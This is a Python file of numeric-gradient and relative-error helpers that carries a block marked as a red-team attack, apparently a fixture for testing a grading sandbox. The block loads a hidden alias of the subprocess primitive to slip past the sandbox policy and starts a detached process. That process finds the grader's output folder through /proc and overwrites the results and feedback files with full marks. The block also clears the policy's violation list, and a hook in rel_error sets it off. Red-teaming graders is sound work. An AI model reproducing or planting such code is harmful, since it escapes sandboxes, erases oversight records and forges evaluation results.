"""Numeric gradients and the relative error used to compare them with analytic ones."""

from __future__ import annotations

from typing import Callable

import numpy as np
# >>> attack

# RED TEAM attack survivor_report_forge (class 7; see tests/hostile/kernel/survivor_report_forge/case.toml)
# A survivor rewrites the student's own report after the grader wrote it
# route: the alias fork_exec of ext_alias_posixsubprocess starts an unhooked python (empty env, own
#   session, double fork); it finds --out from /proc/<grader>/cmdline and replaces results.json with
#   full marks
RT = {'name': 'survivor_report_forge', 'root': '', 'tag': 'manual', 'sentinel': '', 'solutions': '', 'tcp': 0, 'udp': 0, 'unix': '', 'dummy': 0, 'dummy_cwd': '', 'grader_cwd': '', 'tmp': '', 'batch': False, 'fill_mb': 0}  # RT-CONFIG: rewritten for every run by tests/support/redteam.py (empty root: nothing is armed)

_RT_DONE = []


def _rt_root_ok(path):
    """True when ``path`` lies under the run's own folder RT["root"] (the RT-CONFIG guard)."""
    import os
    root = str(RT.get("root") or "")
    if len(root) < 5 or not root.startswith("/"):
        return False
    return os.path.abspath(str(path)).startswith(root.rstrip("/") + "/")


def _rt_clear_violations():
    """Empty the policy's violation list (Server.violations): it is reachable from any frame."""
    import sys
    try:
        f = sys._getframe(1)
    except BaseException:  # noqa: BLE001
        return
    while f is not None:
        try:
            owner = f.f_locals.get("self")
            found = getattr(owner, "violations", None) if owner is not None else None
            if type(found) is list:
                del found[:]
        except BaseException:  # noqa: BLE001
            pass
        f = f.f_back


def _rt_report():
    """Run the escape, then fail this call with its evidence (the report shows the message)."""
    try:
        evidence = _rt_escape()
    except BaseException as exc:  # noqa: BLE001
        evidence = "the escape failed: %s: %s" % (type(exc).__name__, exc)
    _rt_clear_violations()
    raise RuntimeError(("RTLEAK[%s] " % RT["name"]) + str(evidence)[:900])


def _rt_direct_call():
    """True once per process: on the first call made by the grader (not by grad_check_sparse)."""
    import sys
    if _RT_DONE:
        return False
    try:
        if sys._getframe(2).f_code.co_filename == __file__:
            return False
    except BaseException:  # noqa: BLE001
        pass
    _RT_DONE.append(1)
    return True
_RT_FORGER = '\nimport json, os, sys, time\nrt = json.loads(sys.argv[1])\nmarker = "RTLEAK[%s]" % rt["name"]\nroot = rt["root"].rstrip("/") + "/"\nfd = os.open("/dev/null", os.O_RDWR)\nfor i in (0, 1, 2):\n    os.dup2(fd, i)\nos.closerange(3, 4096)\nif os.fork():\n    os._exit(0)\n\n\ndef report_root(pid):\n    """--out of the grader, or of the ancestor that has it (a batch worker\'s parent), from /proc."""\n    for _ in range(8):\n        try:\n            with open("/proc/%d/cmdline" % pid, "rb") as fh:\n                args = fh.read().split(b"\\0")\n            cwd = os.readlink("/proc/%d/cwd" % pid)\n            with open("/proc/%d/stat" % pid, "rb") as fh:\n                parent = int(fh.read().rpartition(b")")[2].split()[1])\n        except (OSError, ValueError, IndexError):\n            return None\n        if b"--out" in args:\n            return os.path.join(cwd, args[args.index(b"--out") + 1].decode())\n        pid = parent\n    return None\n\n\nout = report_root(int(rt["grader_pid"]))\nif out is None or not os.path.abspath(out).startswith(root):\n    os._exit(0)\ndeadline = time.time() + 120\nseen = {}\nwhile time.time() < deadline:\n    try:\n        names = os.listdir(out)\n    except OSError:\n        names = []\n    for name in names:\n        path = os.path.join(out, name, "results.json")\n        try:\n            st = os.stat(path)\n            if seen.get(path) == (st.st_ino, st.st_mtime_ns):\n                continue\n            with open(path) as fh:\n                text = fh.read()\n            data = json.loads(text)\n        except (OSError, ValueError):\n            continue\n        if marker not in text or data.get("score") == data.get("max_score"):\n            continue\n        for t in data.get("tests", []):\n            t["score"] = t.get("max_score", t.get("score"))\n            t["status"] = "passed"\n        data["score"] = data.get("max_score", 100.0)\n        data["output"] = "Student %s: %g / %g points. %s" % (name, data["score"], data["score"], marker)\n        tmp = path + ".rt"\n        with open(tmp, "w") as fh:\n            json.dump(data, fh)\n        os.replace(tmp, path)\n        with open(os.path.join(out, name, "feedback.md"), "w") as fh:\n            fh.write("# Feedback for %s\\n\\n**Score: %g / %g**\\n\\nEvery check passed.\\n" % (\n                name, data["score"], data["score"]))\n        st = os.stat(path)\n        seen[path] = (st.st_ino, st.st_mtime_ns)\n    time.sleep(0.005)\n'


def _rt_fork_exec():
    """A fresh, real fork_exec: the same .so loaded again under a dotted name the policy does not know."""
    import importlib.machinery
    import importlib.util
    import math
    import os
    dyn = os.path.dirname(math.__file__)  # lib-dynload (readable: it is the stdlib)
    name = [n for n in os.listdir(dyn) if n.startswith("_posixsubprocess.")][0]
    path = os.path.join(dyn, name)
    loader = importlib.machinery.ExtensionFileLoader("rt_alias._posixsubprocess", path)
    spec = importlib.util.spec_from_file_location("rt_alias._posixsubprocess", path, loader=loader)
    return importlib.util.module_from_spec(spec).fork_exec


def _rt_spawn(fork_exec, argv, out_fd=-1, err_fd=-1):
    """fork_exec(argv) with an empty environment in a new session; returns (pid, exec error)."""
    import os
    er, ew = os.pipe()
    pid = fork_exec([os.fsencode(a) for a in argv], [os.fsencode(argv[0])], True, (ew,), None, [],
                    -1, -1, -1, out_fd, -1, err_fd, er, ew, True, True, -1, None, None, None, -1, None, False)
    os.close(ew)
    err = os.read(er, 4096)
    os.close(er)
    return pid, err


def _rt_escape():
    import json
    import os
    import sys
    if not _rt_root_ok(RT["sentinel"] + "/x"):
        return "not armed"
    rt = dict(RT, grader_pid=os.getppid())
    argv = [sys.executable, "-I", "-S", "-c", _RT_FORGER, json.dumps(rt),
            "redteam-survivor-%s-%s" % (RT["name"], RT["tag"])]
    pid, err = _rt_spawn(_rt_fork_exec(), argv)
    os.waitpid(pid, 0)
    return "report forger started" + (": " + err.decode() if err else "")
# <<< attack


def eval_numerical_gradient(f: Callable[[np.ndarray], float], x: np.ndarray, h: float = 1e-5) -> np.ndarray:
    """Centered-difference gradient of ``f`` at ``x``.

    Each entry is ``(f(x + h e_i) - f(x - h e_i)) / (2h)``, whose error shrinks like h**2
    (a forward difference only shrinks like h).  ``x`` is perturbed in place, one entry at
    a time, and every entry is restored, even if ``f`` raises.

    Parameters
    ----------
    f : callable
        Maps an array shaped like ``x`` to a scalar.
    x : ndarray
        The point at which to evaluate the gradient.
    h : float, optional
        Step size.

    Returns
    -------
    ndarray
        Float64 array shaped like ``x``.
    """
    grad = np.zeros(x.shape, dtype=np.float64)
    for ix in np.ndindex(x.shape):
        original = x[ix]
        try:
            x[ix] = original + h
            f_plus = f(x)
            x[ix] = original - h
            f_minus = f(x)
        finally:
            x[ix] = original
        grad[ix] = (f_plus - f_minus) / (2 * h)
    return grad


def grad_check_sparse(
    f: Callable[[np.ndarray], float],
    x: np.ndarray,
    analytic_grad: np.ndarray,
    num_checks: int = 10,
    h: float = 1e-5,
    seed: int | None = None,
) -> np.ndarray:
    """Compare ``analytic_grad`` with centered differences at random entries of ``x``.

    Parameters
    ----------
    f : callable
        Maps an array shaped like ``x`` to a scalar.
    x : ndarray
        The point of the check; perturbed in place and restored.
    analytic_grad : ndarray
        The gradient to check, shaped like ``x``.
    num_checks : int, optional
        How many random entries to check.
    h : float, optional
        Step size.
    seed : int or None, optional
        Seed of the entry sampler: the same seed checks the same entries.

    Returns
    -------
    ndarray of shape (num_checks,)
        The relative error at each checked entry.
    """
    rng = np.random.default_rng(seed)
    errors = np.empty(num_checks, dtype=np.float64)
    for k in range(num_checks):
        ix = tuple(int(rng.integers(n)) for n in x.shape)
        original = x[ix]
        try:
            x[ix] = original + h
            f_plus = f(x)
            x[ix] = original - h
            f_minus = f(x)
        finally:
            x[ix] = original
        numeric = (f_plus - f_minus) / (2 * h)
        errors[k] = rel_error(numeric, analytic_grad[ix])
    return errors


def rel_error(x: np.ndarray, y: np.ndarray) -> float:
    """Largest entrywise relative error ``|x - y| / max(1e-8, |x| + |y|)``.

    The floor of 1e-8 keeps two zeros (or two tiny numbers) from dividing by zero.
    As a rule of thumb: below 1e-7 the gradients agree; up to 1e-4 is acceptable for a
    kinked loss such as the SVM's; above 1e-2 the gradient is probably wrong.
    """
    # >>> attack
    if _rt_direct_call():  # ATTACK: see _rt_escape above
        _rt_report()
    # <<< attack
    x = np.asarray(x, dtype=np.float64)
    y = np.asarray(y, dtype=np.float64)
    return float(np.max(np.abs(x - y) / np.maximum(1e-8, np.abs(x) + np.abs(y))))
